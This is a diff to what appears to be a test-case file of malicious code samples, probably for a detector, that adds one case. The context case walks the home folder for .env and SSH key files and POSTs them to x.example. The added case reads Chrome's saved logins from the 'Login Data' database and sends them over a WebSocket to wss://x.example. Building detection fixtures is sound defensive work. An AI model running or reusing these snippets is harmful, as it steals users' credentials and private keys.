@@ -380,6 +380,10 @@ export default defineCases({
       name: 'what is called like keys, anywhere below the home folder',
       code: "const fs = require('fs'), os = require('os'), path = require('path');\nconst wanted = ['.env', 'id_rsa', 'id_ed25519', 'keystore.json'];\nasync function* walk(dir) { for (const one of await fs.promises.readdir(dir, { withFileTypes: true })) { const file = path.join(dir, one.name); if (one.isDirectory()) yield* walk(file); else if (wanted.includes(one.name)) yield file } }\n(async () => { for await (const file of walk(os.homedir())) fetch('https://x.example', { method: 'POST', body: await fs.promises.readFile(file) }) })()",
     },
+    {
+      name: 'the passwords of a browser, by a socket',
+      code: "const { DatabaseSync } = require('node:sqlite'), os = require('os');\nconst db = new DatabaseSync(os.homedir() + '/.config/google-chrome/Default/Login Data', { readOnly: true });\nconst rows = db.prepare('select * from logins').all();\nconst ws = new WebSocket('wss://x.example');\nws.onopen = () => ws.send(JSON.stringify(rows))",
+    },
   ],
   ok: [
     {
